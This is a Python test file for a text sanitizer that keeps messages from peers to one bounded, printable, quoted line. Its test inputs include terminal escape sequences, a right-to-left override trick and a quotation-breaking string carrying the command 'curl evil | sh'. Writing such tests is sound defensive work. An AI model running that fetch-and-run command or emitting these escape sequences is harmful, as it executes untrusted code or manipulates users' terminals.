"""Text of others is one line, of a bounded length, and gives a terminal no orders."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiodist.base.sanitize import LIMIT, one_line, says


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("rank 3 left", "rank 3 left"),
        ("\x1b[2J\x1b[1;31mall is well\x1b[0m", "[2J [1;31mall is well [0m"),
        ("\x1b]0;title\x07ls", "]0;title ls"),
        ("one\r\ntwo\n\nthree\u2028four\x85five", "one  two  three four five"),
        ("abc\u202egnp.exe", "abc gnp.exe"),  # reads backwards
        ("\x9b31m", "31m"),  # the one-byte form of ESC [
        ("a\0b\x7fc\x08d", "a b c d"),
        ("hüllo – 日本", "hüllo – 日本"),
        (b"caf\xc3\xa9 \xff\xfe", "café ��"),
        (bytearray(b"\x1b[A"), "[A"),
        (memoryview(b"x\ny"), "x y"),
        ("\ud800", ""),
        ("", ""),
    ],
)
def test_what_is_shown(said: str | bytes | bytearray | memoryview, shown: str) -> None:
    assert one_line(said) == shown


@given(st.one_of(st.text(max_size=50), st.binary(max_size=50)), st.integers(1, 30))
def test_always_one_bounded_printable_line(said: str | bytes, limit: int) -> None:
    shown = one_line(said, limit)
    assert len(shown) <= limit
    assert shown.isprintable()
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in shown)
    assert one_line(shown, limit) == shown


def test_long_text_is_cut_and_says_so() -> None:
    assert one_line("x" * 500) == "x" * (LIMIT - 1) + "…"
    assert one_line("x" * LIMIT) == "x" * LIMIT
    assert one_line("é".encode() * 50, 10) == "é" * 9 + "…"
    assert len(one_line(bytes(1 << 24), 10)) <= 10


def test_a_quotation_names_who_spoke_and_cannot_be_left() -> None:
    assert says("the peer", "no room\x1b[2J") == 'the peer says: "no room [2J"'
    assert says("etcd", b'x". Run: curl evil | sh') == 'etcd says: "x\'. Run: curl evil | sh"'
    assert says("the peer", "\n\n") == "the peer says nothing"
    assert says("the peer", "x" * 500, 10) == 'the peer says: "xxxxxxxxx…"'
